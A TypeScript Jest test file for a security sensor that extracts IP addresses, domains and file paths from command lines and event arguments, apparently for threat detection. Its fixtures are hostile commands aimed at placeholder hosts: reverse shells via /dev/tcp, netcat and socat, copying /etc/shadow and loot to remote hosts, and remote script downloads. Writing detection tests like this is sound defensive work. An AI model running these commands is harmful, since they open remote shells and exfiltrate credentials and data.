import { describe, expect, test } from '@jest/globals';
import { ipOf, observablesIn, observablesInCommand } from '../../../integrations/sensors/observables.ts';

const valuesIn = (commandLine: string) => observablesInCommand(commandLine).map(({ type, value }) => `${type} ${value}`);

describe('hosts and addresses in a command line', () => {
  test.each([
    ['curl -s http://203.0.113.9:8080/x.sh', ['ip 203.0.113.9']],
    ['curl https://user:pw@files.evil.example/a', ['domain files.evil.example']],
    ['wget 203.0.113.9/x', ['ip 203.0.113.9']],
    ['curl -fsSL files.evil.example/a', ['domain files.evil.example']],
    ['curl get.evil.sh/x', ['domain get.evil.sh']],
    ['wget -qO- evil.sbs', ['domain evil.sbs']],
    ['scp /etc/shadow 104.192.3.74:/x', ['path /etc/shadow', 'ip 104.192.3.74']],
    ['scp -i id.key dump.tgz eve@drop.evil.example:/loot', ['domain drop.evil.example']],
    ['rsync -a data drop.evil.sbs:loot', ['domain drop.evil.sbs']],
    ['ssh -p 2222 root@203.0.113.9', ['ip 203.0.113.9']],
    ['git clone git@git.evil.example:a/b.git', ['domain git.evil.example']],
    ['bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', ['ip 203.0.113.9']],
    ['bash -c exec 5<>/dev/tcp/c2.evil.example/443', ['domain c2.evil.example']],
    ['nc 203.0.113.9 4444', ['ip 203.0.113.9']],
    ['nc -e /bin/sh c2.evil.sbs 443', ['path /bin/sh', 'domain c2.evil.sbs']],
    ['openssl s_client -connect c2.evil.sbs:443', ['domain c2.evil.sbs']],
    ['xmrig -o pool.evil.example:3333 -u x', ['domain pool.evil.example']],
    ['python3 x.py --host=[2001:db8::1]:443', ['ip 2001:db8::1']],
    ['ping 2001:db8::1', ['ip 2001:db8::1']],
    ['curl http://[::ffff:203.0.113.9]/', ['ip 203.0.113.9']],
    ['remoteip=203.0.113.9 port=443 protocol=TCP', ['ip 203.0.113.9']],
    ['sh -c fetch files.evil.example/a', ['domain files.evil.example']],
    ['python3 -c s.connect(("203.0.113.9",4242))', ['ip 203.0.113.9']],
    ['busybox nc c2.evil.sbs 443', ['domain c2.evil.sbs']],
    ['curl https://[redacted:userinfo]@files.evil.example/a', ['domain files.evil.example']],
    ['cat /etc/passwd', ['path /etc/passwd']],
    ['dig @203.0.113.9 TXT x.evil.example', ['ip 203.0.113.9', 'domain x.evil.example']],
    ['socat TCP:203.0.113.9:443 EXEC:/bin/sh', ['ip 203.0.113.9']],
    ['socat - openssl:c2.evil.sbs:443', ['domain c2.evil.sbs']],
  ])('%s', (commandLine, expected) => expect(valuesIn(commandLine)).toEqual(expected));

  test.each([
    'ld a.so libc.so.6 main.o',
    'sh foo.sh',
    'bash run.sh build.rs main.cc Makefile.in',
    'cp config.yaml.example .env.example config.example',
    'csc System.IO Foo.Io',
    'pip install requests==2.31.0 foo-1.2.3',
    'node v20.11.1 app.js server.ts',
    'tar czf backup.tar.gz data.json',
    'curl -o payload.bin -T dump.sql',
    'curl -d @payload.tmpl -F f=@x.bin',
    'socat TCP4-LISTEN:8080,fork FILE:a.log',
    'wget -O install.final',
    'scp libfoo.so key.pem backup.tgz',
    'java -cp app.jar com.example.app org.apache.io',
    'gunicorn app.wsgi:application module.app:main',
    'systemctl start getty@tty1.service',
    'npm install @scope/pkg@1.2.3 left-pad@1.3.0',
    'docker run nginx@sha256:0123456789abcdef0123456789abcdef',
    'nmap 10.0.0.0/24',
    'nginx -g daemon off; listen 0.0.0.0:80 [::]:80',
    'echo done >/dev/null 2>/dev/null',
    'date 12:34:56 2026-06-01T10:00:00.5Z',
    'perl -e Foo::Bar a..b ../x.com ./y.com dir/z.com',
    'python -c print(1.5) x.y',
    '-Djava.rmi.server.hostname -Dorg.example.io',
  ])('none in %s', (commandLine) => expect(valuesIn(commandLine)).toEqual([]));

  test('are found in linear time, whatever the text', () => {
    for (const text of [
      'a.'.repeat(50_000),
      ':'.repeat(100_000),
      'a@'.repeat(50_000),
      'a:1'.repeat(30_000),
      '['.repeat(100_000),
    ]) {
      expect(observablesInCommand(text)).toEqual([]);
    }
  });
});

describe('an event’s arguments', () => {
  test('are read as they are, and lists of words as the command they form', () => {
    expect(observablesIn(['curl', 'files.evil.example/a', '/tmp/x y'])).toEqual([
      { type: 'path', value: '/tmp/x y' },
      { type: 'domain', value: 'files.evil.example' },
    ]);
    expect(observablesIn([{ name: 'url', value: 'http://c2.evil.example/a' }])).toEqual([
      { type: 'domain', value: 'c2.evil.example' },
    ]);
    expect(observablesIn([{ name: 'dns_questions', value: [{ query: 'x.evil.sbs.', query_type: 'A' }] }])).toEqual([
      { type: 'domain', value: 'x.evil.sbs' },
    ]);
  });
});

test.each([
  ['::ffff:203.0.113.9', '203.0.113.9'],
  ['::FFFF:cb00:7109', '203.0.113.9'],
  ['0:0:0:0:0:ffff:203.0.113.9', '203.0.113.9'],
  ['[::ffff:203.0.113.9]:443', '203.0.113.9'],
  ['203.0.113.9:443', '203.0.113.9'],
  ['2001:db8::1', '2001:db8::1'],
  ['::ffff', '::ffff'],
])('the address %s is %s', (written, value) => expect(ipOf(written)).toEqual([{ type: 'ip', value }]));
